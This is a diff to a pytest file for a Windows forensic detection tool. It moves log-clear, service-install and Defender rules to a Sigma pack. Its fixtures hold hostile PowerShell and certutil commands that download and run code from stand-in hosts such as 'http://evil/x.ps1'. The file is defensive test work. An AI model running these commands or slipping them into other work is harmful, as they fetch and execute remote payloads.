@@ -80,7 +80,8 @@ def test_autorun_known_benign_is_info():
 ])
 def test_powershell_obfuscated_positive(cmd):
     assert "powershell_obfuscated" in rules([run(cmd)])
-    assert "powershell_obfuscated" in rules([ev(4688, "process", {"command_line": cmd})])
+    # event-log command lines are the Sigma pack's (sigma_rules/execution), not this rule's
+    assert "powershell_obfuscated" not in rules([ev(4688, "process", {"command_line": cmd})])
 
 
 @pytest.mark.parametrize("cmd", [
@@ -91,13 +92,11 @@ def test_powershell_obfuscated_negative(cmd):
     assert "powershell_obfuscated" not in rules([run(cmd), ev(4688, "process", {"command_line": cmd})])
 
 
-def test_powershell_in_script_block_and_history():
-    sb = ev(4104, "powershell_script", {"script_block": "$x=[Convert]::FromBase64String($b); iex $x"},
-            provider="Microsoft-Windows-PowerShell", channel="Microsoft-Windows-PowerShell/Operational")
+def test_powershell_in_history():
     hist = CommandHistory(source=src("files/C/Users/a/ConsoleHost_history.txt", "line 3"), shell="powershell",
                           user="a", line_number=3, command="iex (iwr http://evil/x.ps1)")
-    fs = only([sb, hist], "powershell_obfuscated")
-    assert {f.evidence[0]["bundle_path"] for f in fs} == {sb.source.bundle_path, hist.source.bundle_path}
+    fs = only([hist], "powershell_obfuscated")
+    assert {f.evidence[0]["bundle_path"] for f in fs} == {hist.source.bundle_path}
 
 
 @pytest.mark.parametrize("cmd,binary", [
@@ -143,26 +142,6 @@ def test_ifeo_accessibility():
     assert not only([flag], "ifeo_accessibility")
 
 
-def test_log_cleared():
-    cleared = ev(1102, "log_cleared", {"by": "CORP\\mallory", "log": "Security"},
-                 provider="Microsoft-Windows-Eventlog")
-    fs = only([cleared], "log_cleared")
-    assert len(fs) == 1 and fs[0].severity == "high" and "mallory" in fs[0].reason
-    # 104 from another provider is not a log clear
-    assert not only([ev(104, "other", provider="SomeApp", channel="Application")], "log_cleared")
-
-
-def test_service_installed():
-    evil = ev(7045, "service_install", {"service_name": "upd", "image_path": "C:\\Users\\Public\\svc.exe"},
-              provider="Service Control Manager", channel="System")
-    ok = ev(7045, "service_install", {"service_name": "vmci", "image_path": "System32\\drivers\\vmci.sys"},
-            provider="Service Control Manager", channel="System")
-    psexec = ev(4697, "service_install", {"service_name": "x", "image_path": "%COMSPEC% /c powershell -enc AAAA"})
-    sev = {f.evidence[0].get("service"): f.severity for f in only([evil, ok, psexec], "service_installed")}
-    assert sev == {"upd": "high", "vmci": "low", "x": "high"}
-    assert not only([ev(7045, "other", provider="Some App", channel="Application")], "service_installed")
-
-
 def test_execution_odd_place():
     def pf(path):
         return Execution(source=src("files/C/Windows/Prefetch/X.pf"), kind="prefetch", executable="X.EXE",
@@ -206,15 +185,6 @@ def test_failed_logon_burst():
     assert not only(burst[:5], "failed_logon_burst")
 
 
-def test_defender_detection():
-    det = ev(1116, "defender", {"threat_name": "Trojan:Win32/X", "path": "C:\\x.exe"},
-             provider="Microsoft-Windows-Windows Defender", channel="Microsoft-Windows-Windows Defender/Operational")
-    fs = only([det], "defender_detection")
-    assert len(fs) == 1 and "Trojan:Win32/X" in fs[0].title
-    status = ev(1150, "defender", provider="Microsoft-Windows-Windows Defender")
-    assert not only([status], "defender_detection")
-
-
 def test_computer_name_mismatch():
     def stats(computers):
         return EventLogStats(source=src("files/C/Windows/System32/winevt/Logs/System.evtx"), channel="System",
@@ -241,12 +211,37 @@ def test_rules_table_documented():
 
 
 def test_duplicates_merged():
-    svc = [ev(7045, "service_install", {"service_name": "upd", "image_path": "C:\\Users\\Public\\svc.exe"},
-              provider="Service Control Manager", channel="System", ts=T0 + timedelta(days=i)) for i in range(30)]
-    fs = only(svc, "service_installed")
+    # the same autostart in 30 users' hives: one finding, 30 pieces of evidence (capped)
+    same = [Autorun(source=src(f"files/C/Users/u{i}/NTUSER.DAT", "Run"), category="run_key", location="Run",
+                    name="upd", command="powershell iex (iwr http://evil/x.ps1)") for i in range(30)]
+    fs = only(same, "powershell_obfuscated")
     assert len(fs) == 1
-    assert fs[0].when == T0 and "(seen 30 times)" in fs[0].reason
+    assert "(seen 30 times)" in fs[0].reason
     assert len(fs[0].evidence) == F.MAX_MERGED_EVIDENCE
+
+
+def test_moved_rules_are_pack_rules(pack):
+    """What the record-selecting Python rules caught in event logs, the Sigma pack catches."""
+    _, eng = pack
+    cases = [
+        {"Channel": "Security", "EventID": "1102", "Provider_Name": "Microsoft-Windows-Eventlog",
+         "SubjectUserName": "mallory", "SubjectDomainName": "CORP"},
+        {"Channel": "System", "EventID": "7045", "Provider_Name": "Service Control Manager",
+         "ServiceName": "upd", "ImagePath": "C:\\Users\\Public\\svc.exe", "ServiceType": "user mode service",
+         "StartType": "auto start", "AccountName": "LocalSystem"},
+        {"Channel": "Microsoft-Windows-Windows Defender/Operational", "EventID": "1116",
+         "Provider_Name": "Microsoft-Windows-Windows Defender", "Threat Name": "Trojan:Win32/X",
+         "Path": "file:_C:\\x.exe", "Severity Name": "Severe"},
+        {"Channel": "Security", "EventID": "4688", "Provider_Name": "Microsoft-Windows-Security-Auditing",
+         "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
+         "CommandLine": "certutil -urlcache -split -f http://evil/x.exe x.exe"},
+        {"Channel": "Security", "EventID": "4688", "Provider_Name": "Microsoft-Windows-Security-Auditing",
+         "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+         "CommandLine": "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')"},
+    ]
+    for case in cases:
+        levels = {r.level for r in eng.match_fields(case)}
+        assert levels & {"medium", "high", "critical"}, case
 
 
 def test_off_network_unknown_after_logs_end():
